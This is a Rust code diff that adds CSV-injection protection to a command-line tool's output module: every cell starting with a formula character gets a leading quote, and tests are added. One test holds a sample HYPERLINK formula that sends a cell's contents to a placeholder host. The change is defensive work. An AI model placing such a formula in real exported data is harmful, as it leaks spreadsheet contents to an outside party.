@@ -55,6 +55,21 @@ fn needs_escape(c: char) -> bool {
         || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
 }
 
+/// A cell as CSV carries it. One that begins with `=`, `+`, `-`, `@`, TAB
+/// or CR gets a leading `'`, so that a spreadsheet shows it as text instead
+/// of running it as a formula (OWASP's CSV-injection advice, contract §5):
+/// a key named `=HYPERLINK(…)` must not become a link that sends a cell
+/// away. That includes a plain `-5`; telling numbers from formulas is how
+/// the guard gets bypassed. Terminal controls are then escaped, as in tables.
+pub fn csv_cell(s: &str) -> String {
+    let guarded = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{s}"))
+    } else {
+        Cow::Borrowed(s)
+    };
+    escape(&guarded).into_owned()
+}
+
 pub fn ser_time<S: serde::Serializer>(t: &DateTime<Utc>, s: S) -> Result<S::Ok, S::Error> {
     s.serialize_str(&timefmt::rfc3339(t))
 }
@@ -73,6 +88,10 @@ pub fn ser_opt_time<S: serde::Serializer>(
 pub trait TableRow {
     fn header() -> Vec<&'static str>;
     fn row(&self, style: &Style) -> Vec<Cell>;
+    /// Its JSON field names, in order: the CSV columns. A CSV starts with
+    /// them even when the list is empty (contract §5), so they cannot come
+    /// from an item.
+    fn columns() -> &'static [&'static str];
 }
 
 /// Whether colors may be used on stdout.
@@ -145,7 +164,7 @@ impl Out {
     pub fn list<T: Serialize + TableRow>(&mut self, items: &[T]) -> io::Result<()> {
         match self.format {
             Format::Json => self.json(items),
-            Format::Csv => self.csv(items),
+            Format::Csv => self.csv_list(items),
             Format::Table | Format::LegacyCfb => {
                 if items.is_empty() {
                     return Ok(());
@@ -164,7 +183,11 @@ impl Out {
     pub fn item<T: Serialize>(&mut self, item: &T) -> io::Result<()> {
         match self.format {
             Format::Json => self.json(item),
-            Format::Csv => self.csv(std::slice::from_ref(item)),
+            Format::Csv => {
+                let (names, values): (Vec<String>, Vec<_>) =
+                    ordered_fields(item).into_iter().unzip();
+                self.csv(&names, [values.iter().map(plain).collect()])
+            }
             Format::Table | Format::LegacyCfb => {
                 let mut t = new_table();
                 for (k, v) in ordered_fields(item) {
@@ -175,20 +198,35 @@ impl Out {
         }
     }
 
-    fn csv<T: Serialize>(&mut self, items: &[T]) -> io::Result<()> {
+    /// A list as CSV: the type's columns, then one row per item.
+    fn csv_list<T: Serialize + TableRow>(&mut self, items: &[T]) -> io::Result<()> {
+        let rows = items.iter().map(|item| {
+            let mut fields: serde_json::Map<_, _> = ordered_fields(item).into_iter().collect();
+            let row = T::columns()
+                .iter()
+                .map(|c| fields.remove(*c).map(|v| plain(&v)).unwrap_or_default())
+                .collect();
+            debug_assert!(
+                fields.is_empty(),
+                "fields missing from TableRow::columns(): {:?}",
+                fields.keys().collect::<Vec<_>>()
+            );
+            row
+        });
+        self.csv(T::columns(), rows)
+    }
+
+    /// The one CSV writer every command's CSV goes through: the header
+    /// row always, even with no rows, and every cell through [`csv_cell`].
+    pub fn csv<H: AsRef<str>>(
+        &mut self,
+        header: &[H],
+        rows: impl IntoIterator<Item = Vec<String>>,
+    ) -> io::Result<()> {
         let mut w = csv::Writer::from_writer(&mut self.w);
-        for (i, item) in items.iter().enumerate() {
-            let fields = ordered_fields(item);
-            if i == 0 {
-                w.write_record(fields.iter().map(|(k, _)| k.as_str()))?;
-            }
-            w.write_record(fields.iter().map(|(_, v)| {
-                let p = plain(v);
-                match escape(&p) {
-                    Cow::Borrowed(_) => p,
-                    Cow::Owned(e) => e,
-                }
-            }))?;
+        w.write_record(header.iter().map(|h| csv_cell(h.as_ref())))?;
+        for row in rows {
+            w.write_record(row.iter().map(|c| csv_cell(c)))?;
         }
         w.flush()
     }
@@ -236,6 +274,48 @@ mod tests {
         assert_eq!(escape("x\u{202e}y"), "x\\u{202e}y");
         assert_eq!(escape("l\u{00e9}on \"q\"; 🔑"), "l\u{00e9}on \"q\"; 🔑");
         assert_eq!(escape("tab\there"), "tab\\u{9}here");
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        assert_eq!(csv_cell("plain"), "plain");
+        assert_eq!(
+            csv_cell("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"),
+            "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
+        );
+        for (raw, want) in [
+            ("+1", "'+1"),
+            ("-5", "'-5"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\\u{9}x"),
+            ("\rx", "'\\u{d}x"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_cell(raw), want, "{raw:?}");
+        }
+    }
+
+    #[test]
+    fn csv_has_its_header_without_rows() {
+        let buf = std::rc::Rc::new(std::cell::RefCell::new(Vec::new()));
+        struct W(std::rc::Rc<std::cell::RefCell<Vec<u8>>>);
+        impl Write for W {
+            fn write(&mut self, b: &[u8]) -> io::Result<usize> {
+                self.0.borrow_mut().write(b)
+            }
+            fn flush(&mut self) -> io::Result<()> {
+                Ok(())
+            }
+        }
+        let mut out = Out::new(Format::Csv, false, Box::new(W(buf.clone())));
+        out.csv(&["name", "count"], Vec::<Vec<String>>::new())
+            .unwrap();
+        out.csv(&["n"], [vec!["-1".to_owned()]]).unwrap();
+        assert_eq!(
+            String::from_utf8(buf.borrow().clone()).unwrap(),
+            "name,count\nn\n'-1\n"
+        );
     }
 
     #[test]
